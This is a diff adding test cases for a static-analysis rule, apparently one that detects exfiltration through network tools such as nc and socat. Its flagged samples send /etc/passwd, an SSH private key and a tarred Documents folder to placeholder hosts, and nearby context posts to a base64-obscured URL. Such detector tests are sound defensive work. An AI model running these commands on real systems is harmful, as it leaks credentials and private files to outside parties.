@@ -166,3 +166,14 @@ hidden = base64.b64decode("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvaG9vaw==")
 requests.post(hidden, json={"x": 1})
 # ok: AIR-NET-018
 requests.post("https://api.example.com/v1", data=base64.b64decode("eA=="))
+
+# ruleid: AIR-NET-019
+subprocess.run("cat /etc/passwd | nc 198.51.100.9 9000", shell=True)
+# ruleid: AIR-NET-019
+os.system("nc -w 3 collector.example 9000 < ~/.ssh/id_rsa")
+# ruleid: AIR-NET-019
+os.system("tar cz ~/Documents | socat - TCP:198.51.100.9:443")
+# ok: AIR-NET-019
+subprocess.run(["nc", "-z", "localhost", "5432"])
+# ok: AIR-NET-019
+os.system("grep -c error app.log | sort -n")
